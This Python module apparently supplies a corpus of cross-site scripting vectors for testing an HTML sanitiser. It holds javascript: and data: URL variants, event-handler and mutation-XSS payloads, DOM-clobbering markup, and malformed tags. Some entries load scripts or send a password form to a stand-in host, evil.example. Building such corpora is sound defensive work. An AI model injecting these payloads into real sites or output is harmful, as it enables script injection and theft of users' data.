# ruff: noqa: E501 -- markup and data read better unbroken
"""Markup that attacks whoever shows it.  Written for this project, by the kinds of attack that are known."""

from __future__ import annotations

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", "\x01javascript:alert(1)", "\x00javascript:alert(1)", "javascript\x00:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&#58;alert(1)", "java&#x0A;script:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript://example.com/%0aalert(1)", "javascript://https://x.example/%0aalert(1)",
    "vbscript:msgbox(1)", "VBSCRIPT:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "blob:https://x.example/1",
    "file:///etc/passwd", "filesystem:https://x.example/t", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/",
    "about:blank", "chrome://settings", "intent://x#Intent;scheme=javascript;end", "ms-settings:x", "ftp://x.example/", "tel:+123", "sms:123", "ws://x.example/",
    "mailto:a@b.example?cc=c@d.example", 'mailto:"><script>alert(1)</script>', "//evil.example\\@x", "https://user:pass@evil.example/", "https:\u202eelpmaxe.live",
    "x-javascript:alert(1)", "javascript:javascript:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "ja\u200bvascript:alert(1)", "jAvAsCrIpT&#58;alert(4)",
)  # fmt: skip
_HANDLERS = (
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontransitionend", "onpointerenter", "ontoggle", "onbeforetoggle",
    "onscroll", "onwheel", "oncopy", "onpaste", "ondrag", "onauxclick", "onContextMenu", "ONCLICK", "oncontentvisibilityautostatechange",
)  # fmt: skip
_ELEMENTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>", "<script>alert(1)//", "<<script>alert(1)//<</script>", "<script>/*</script><script>*/alert(1)</script>", "<script type=text/template>x</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)", "<img/src=x/onerror=alert(1)>", '<img """><script>alert(1)</script>">', "<img src=`x`onerror=alert(1)>",
    "<img srcset='x 1x' onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1) src=x></picture>", "<img src='/x' width=1 height=1>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>", "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>", "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe><img src=x onerror=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>", "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>", "<portal src=//evil.example></portal>",
    "<base href='javascript:alert(1)//'>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example/beacon)}</style>", "<style><!--</style><script>alert(1)</script>", "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<div style=background:url(javascript:alert(1))>x</div>", "<b style='behavior:url(x.htc)'>x</b>", '<p style="x:expression(alert(1))">x</p>', "<font color=red face='</style>'>x</font>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<form action=//evil.example><input name=password><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>", "<keygen autofocus onfocus=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<label for=x>y</label><input id=x type=checkbox>",
    "<video src=x onerror=alert(1)></video>", "<video><source onerror=alert(1)></video>", "<video poster=javascript:alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>", "<marquee behavior=alternate>x</marquee>", "<blink>x</blink>", "<dialog open onclose=alert(1)>x</dialog>", "<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<frameset onload=alert(1)>",
    "<frame src=javascript:alert(1)>", "<table background=javascript:alert(1)><tr><td background=//evil.example/b>x</table>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.example></layer>", "<xml id=x><a><b>&lt;script&gt;</b></a></xml>",
    "<a id=currentScript name=body href=/x>clobbered</a>", "<form name=querySelector><input name=attributes></form>", "<img name=cookie>", "<p id=ymateb-thread class='ym-admin'>x</p>", "<a href=/x ping=//evil.example/p>x</a>",
    "<a href=/x target=_top rel=opener>x</a>", "<a href=/x download=evil.exe>x</a>", "<a href=/x referrerpolicy=unsafe-url>x</a>", "<a href=/x attributionsrc=//evil.example>x</a>", "<a href=/x accesskey=x>x</a>", "<p contenteditable autofocus onfocus=alert(1)>x</p>",
    "<p popover id=p>x</p><button popovertarget=p>x</button>", "<p slot=x part=y is=z>x</p>", "<ymateb-thread target=//evil.example></ymateb-thread>", "<custom-element onclick=alert(1)>x</custom-element>", "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y '<script>'>]>&y;", "<%<script>alert(1)</script>%>",
    "</p><script>alert(1)</script>", "</div></div></div></article></body><script>alert(1)</script>", "</ymateb-thread><script>alert(1)</script>", "</template><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "\uff1cscript\uff1ealert(1)", "<\x00script>alert(1)</script>", "<script\x00>alert(1)</script>", "<\u0130mg src=x onerror=alert(1)>",
    "<a href='x' title='\"><script>alert(1)</script>'>x</a>", "<a title=\"'><img src=x onerror=alert(1)>\" href=/x>x</a>", "<abbr title='</abbr><script>alert(1)</script>'>x</abbr>", "<time datetime='\"><script>alert(1)</script>'>x</time>",
    "<q cite='javascript:alert(1)'>x</q>", "<blockquote cite=' data:text/html,x'>x</blockquote>", "<ins cite=javascript:alert(1) datetime=x>x</ins>", "<p lang='\"><script>' dir='evil'>x</p>", "<td colspan=99999999 rowspan=-1>x", "<ol start=1e99 type=javascript:>",
    "<b>unclosed", "<a href='https://evil.example/", '<p title="unclosed attribute', "<<<<b>>>>", "<b/><i/><a href=/x/>", "<p><p><p></div></b></p>", "<table><script>alert(1)</script><tr><td>x", "<select><script>alert(1)</script></select>", "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<b>\u202eevil\u202c</b>", "<b>\u2066\u2067evil</b>", "x\u0000y", "\ud800", "a" + "\u0301" * 100, "\U000e0041\U000e0042", "\ufeff<script>alert(1)</script>", "<b>" * 300 + "deep", "<a " + "x=y " * 200 + "href=/z>many</a>",
)  # fmt: skip

VECTORS: tuple[str, ...] = (
    *_ELEMENTS,
    *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
    *(
        f"<a href={scheme}>x</a>"
        for scheme in ("javascript:alert(1)", "java&#9;script:alert(1)", "`javascript:alert(1)`")
    ),
    *(f"<p {handler}=alert(1)>x</p>" for handler in _HANDLERS),
    *(f"<b/{handler}='alert(1)'>x</b>" for handler in _HANDLERS[:4]),
)
